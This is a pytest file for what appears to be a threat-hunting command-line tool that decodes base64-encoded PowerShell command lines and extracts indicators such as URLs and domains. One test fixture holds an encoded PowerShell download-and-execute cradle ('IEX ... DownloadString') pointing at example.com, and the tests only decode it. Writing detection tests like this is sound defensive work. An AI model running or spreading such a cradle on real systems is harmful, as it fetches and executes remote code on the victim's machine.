import json
import subprocess
import sys
from pathlib import Path

from tests.encoding import b64

LINE = "powershell -enc " + b64(
    "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')"
)


def hunting(*arguments: str, text: str = "") -> str:
    run = subprocess.run(
        [sys.executable, "-m", "app.hunting", *arguments],
        input=text, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert run.stderr == ""
    return run.stdout


def test_decode_shows_layers_and_iocs() -> None:
    shown = hunting("decode", LINE)
    for part in ("base64:utf-16-le", "DownloadString", "http://example.com/a", "decoded"):
        assert part in shown


def test_decode_of_a_line_longer_than_any_file_name() -> None:
    script = "Get-Date;" * 600
    assert (
        json.loads(hunting("decode", f"powershell -e {b64(script)}", "--json"))["validated"]
        == script
    )


def test_decode_json_of_standard_input_is_one_object_per_line() -> None:
    first, second = map(
        json.loads, hunting("decode", "-", "--json", text=f"{LINE}\ndir\n").splitlines()
    )
    assert (first["status"], second["status"]) == ("decoded", "none")
    assert first["iocs"] == {"url": ["http://example.com/a"], "domain": ["example.com"]}
    assert first["layers"][0]["step"] == "base64:utf-16-le"


def test_decode_of_a_file(tmp_path: Path) -> None:
    path = tmp_path / "lines.txt"
    path.write_text(f"{LINE}\n\ndir\n")
    assert len(hunting("decode", str(path), "--json").splitlines()) == 2


def test_decoded_markup_and_control_characters_do_not_reach_the_terminal() -> None:
    script = "Write-Host '[bold red]x[/] \x1b[31mred'"
    shown = hunting("decode", f"powershell -enc {b64(script)}")
    assert "\x1b" not in shown
    assert "[bold red]" in shown


def test_decode_of_a_file_in_utf16(tmp_path: Path) -> None:
    path = tmp_path / "lines.txt"
    path.write_text(f"{LINE}\n", "utf-16")
    (shown,) = hunting("decode", str(path), "--json").splitlines()
    assert json.loads(shown)["status"] == "decoded"
